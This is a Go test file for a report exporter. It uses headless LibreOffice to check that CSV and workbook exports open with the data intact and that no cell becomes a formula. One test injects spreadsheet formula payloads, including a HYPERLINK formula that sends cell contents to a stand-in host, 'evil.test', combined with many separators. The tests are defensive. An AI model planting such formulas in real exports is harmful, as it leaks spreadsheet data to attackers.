package sheet

import (
	"bufio"
	"context"
	"encoding/csv"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
	"github.com/xuri/excelize/v2"

	"wiretrace/report"
	"wiretrace/report/page"
)

// convert has LibreOffice open files and write them as CSV: NAME.csv, or
// NAME-SHEET.csv for each sheet. Texts are read as Excel reads them: what looks
// like a number or a date becomes one.
func convert(t *testing.T, out string, filter string, files ...string) {
	t.Helper()
	convertTo(t, "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1", out, filter, files...)
}

// convertTo does the same in another form.
func convertTo(t *testing.T, form, out, filter string, files ...string) {
	t.Helper()
	office, err := exec.LookPath("soffice")
	if err != nil {
		t.Skip("no LibreOffice here (soffice): the files are not opened in it")
	}
	ctx, cancel := context.WithTimeout(t.Context(), 2*time.Minute)
	defer cancel()
	args := []string{"--headless", "-env:UserInstallation=file://" + filepath.Join(t.TempDir(), "profile")}
	if filter != "" {
		args = append(args, "--infilter="+filter)
	}
	args = append(args, "--convert-to", form, "--outdir", out)
	said, err := exec.CommandContext(ctx, office, append(args, files...)...).CombinedOutput()
	require.NoError(t, err, string(said))
}

func cells(t *testing.T, path string) [][]string {
	t.Helper()
	f, err := os.Open(path)
	require.NoError(t, err)
	defer f.Close()
	b := bufio.NewReader(f)
	if r, _, err := b.ReadRune(); err == nil && r != '\uFEFF' {
		require.NoError(t, b.UnreadRune())
	}
	r := csv.NewReader(b)
	r.FieldsPerRecord = -1
	rows, err := r.ReadAll()
	require.NoError(t, err)
	return rows
}

// inUTC writes a date of a report as LibreOffice writes it.
func inUTC(date string) string {
	for _, layout := range []string{time.RFC3339, "2006-01-02T15:04Z07:00", "2006-01-02T15:04"} {
		if t, err := time.Parse(layout, date); err == nil {
			return t.UTC().Format("2006-01-02 15:04:05")
		}
	}
	return date
}

// whole writes a report with all its tables and the workbook.
func whole(t *testing.T) (dir string) {
	t.Helper()
	dir = filepath.Join(t.TempDir(), "r")
	w, err := report.Create(dir, report.Options{Forms: []report.NewForm{page.New(page.About{}), New(100, true, "report.jsonl")}})
	require.NoError(t, err)
	require.NoError(t, report.Read(sample, report.Rows{Problem: w.Problem, Story: w.Story, Article: w.Article, Cluster: w.Cluster, Outlet: w.Outlet, Flow: w.Flow}))
	require.NoError(t, w.Article(&report.Article{
		ID: "1234567890123456789", Role: report.Single, Title: "=1+1", Byline: "-2", Outlet: "+3", Why: "@SUM(A1)", Published: "2025-03-04",
		OtherSources: "Reuters 12 %; AFP 8 %", File: "a\tb;c.txt", UpstreamKind: "it credits “Reuters”; \"AFP\", too",
		URL: "https://example.org/?a=1,2", Words: 3, Text: "a \"b\"\nc;d", Credits: []report.Credit{{End: 1, Outlet: "An Outlet", Text: "line\nbreak, \"marks\"; and tab\t."}},
	}))
	for i, confidence := range []string{report.Likely, report.Possible} {
		require.NoError(t, w.Article(&report.Article{
			ID: fmt.Sprint("late-", i), Role: report.Rewrite, Outlet: "Buzz24", Published: "2025-06-02T10:00Z", Credited: report.No, Confidence: confidence,
		}))
	}
	require.NoError(t, w.Commit())
	return dir
}

// shortest writes a number without the zeros at its end.
func shortest(number string) string {
	if strings.Contains(number, ".") {
		return strings.TrimRight(strings.TrimRight(number, "0"), ".")
	}
	return number
}

func TestLibreOfficeReadsTheWorkbookAsTheTables(t *testing.T) {
	dir, out := whole(t), t.TempDir()
	convert(t, out, "", filepath.Join(dir, report.SheetFile))
	for sheet, table := range map[string]string{"stories": "stories", "clusters": "clusters", "articles": "report", "passages": "passages", "links": "links", "credits": "credits", "quotes": "quotes", "outlets": "outlets", "flows": "flows"} {
		t.Run(sheet, func(t *testing.T) {
			got, want := cells(t, filepath.Join(out, "report-"+sheet+".csv")), cells(t, filepath.Join(dir, table+".csv"))
			require.Len(t, got, len(want))
			as := len(want[0]) // where articles have the date exactly
			for i, row := range want {
				for k, cell := range row {
					name := want[0][k]
					there := got[i][k]
					switch {
					case i == 0:
					case strings.HasSuffix(name, "_pct") && cell != "":
						there = strings.TrimSuffix(there, "%")
						cell = strings.TrimSuffix(cell, ".0")
					case name == "similarity" || strings.HasPrefix(name, "share_"):
						cell, there = shortest(cell), shortest(there)
					case name == "published":
						there = got[i][as]
					case strings.HasSuffix(name, "_published"):
						cell = inUTC(cell)
					case strings.HasPrefix(cell, "'"):
						cell = cell[1:] // the workbook needs no apostrophe
					}
					require.Equal(t, cell, there, "row %d, %s", i, name)
				}
			}
		})
	}
}

// The dialogue of LibreOffice has comma, semicolon and tab ticked unless its user
// unticks one: all three part cells.
func TestLibreOfficeReadsTheTablesAsTheyAre(t *testing.T) {
	dir, out := whole(t), t.TempDir()
	names := []string{"clusters", "report", "passages", "links", "credits", "quotes", "stories", "outlets", "flows", "problems"}
	var files []string
	for _, name := range names {
		files = append(files, filepath.Join(dir, name+".csv"))
	}
	convert(t, out, "CSV:44/59/9,34,76,1,,0,false,true", files...)
	for _, name := range names {
		t.Run(name, func(t *testing.T) {
			path := filepath.Join(out, name+".csv")
			if _, err := os.Stat(path); err != nil {
				path = filepath.Join(out, name+"-"+name+".csv")
			}
			got, want := cells(t, path), cells(t, filepath.Join(dir, name+".csv"))
			require.Len(t, got, len(want))
			for i, row := range want {
				for k, cell := range row {
					there := got[i][k]
					if strings.HasSuffix(want[0][k], "published") && there == cell+":00" {
						continue // the same time
					}
					if x := strings.TrimRight(strings.TrimRight(cell, "0"), "."); strings.Contains(cell, ".") && x == there {
						continue // 50.0 is 50
					}
					require.Equal(t, cell, there, "row %d, %s", i, want[0][k])
				}
			}
		})
	}
}

// Whatever parts the cells when LibreOffice opens a table, no cell is a formula, though
// it is told to evaluate them; nor if quotation marks are not heeded and something
// else than the comma parts them.
func TestLibreOfficeFindsNoFormulaWhateverPartsTheCells(t *testing.T) {
	const evil = `=HYPERLINK("http://evil.test/?"&A1;"x")`
	var texts []string
	for _, between := range []string{"", ";", "; ", ";\"", "\t", "|", "\n", "\r\n", "\r", ",", ",\"", "a;b\t", "\"", "\" ;", "''", "' "} {
		for _, formula := range []string{evil, "=1+1", "+1+1", "-1+1", "@SUM(A1)", "＝1+1"} {
			texts = append(texts, between+formula, "Harbour"+between+formula)
		}
	}
	dir := filepath.Join(t.TempDir(), "r")
	w, err := report.Create(dir, report.Options{AllPassages: true})
	require.NoError(t, err)
	for i, text := range texts {
		require.NoError(t, w.Article(&report.Article{
			ID: fmt.Sprint(i), Title: text, Outlet: text, File: text, Text: text,
			Passages: []report.Passage{{End: len(text), Label: report.Original, Text: text}}, Credits: []report.Credit{{Outlet: text, Text: text}},
		}))
	}
	require.NoError(t, w.Problem(&report.Problem{File: evil, Reason: "a;" + evil}))
	require.NoError(t, w.Commit())
	names := []string{"report", "passages", "credits", "problems"}
	var files []string
	for _, name := range names {
		files = append(files, filepath.Join(dir, name+".csv"))
	}
	for _, parts := range []string{"44,34", "59,34", "9,34", "124,34", "44/59/9,34", "59,", "9,", "124,"} { // separators and quotation mark
		t.Run(parts, func(t *testing.T) {
			out := t.TempDir()
			convertTo(t, "xlsx", out, "CSV:"+parts+",76,1,,0,false,true,false,false,false,0,true", files...)
			for _, name := range names {
				requireNoFormula(t, filepath.Join(out, name+".xlsx"))
			}
		})
	}
}

// requireNoFormula fails if a cell of a workbook is a formula.
func requireNoFormula(t *testing.T, path string) {
	t.Helper()
	f := open(t, path)
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet)
		require.NoError(t, err)
		require.NotEmpty(t, rows)
		for r, row := range rows {
			for c := range row {
				cell, err := excelize.CoordinatesToCellName(c+1, r+1)
				require.NoError(t, err)
				formula, err := f.GetCellFormula(sheet, cell)
				require.NoError(t, err)
				require.Empty(t, formula, "%s %s: %q", path, cell, row[c])
			}
		}
	}
}
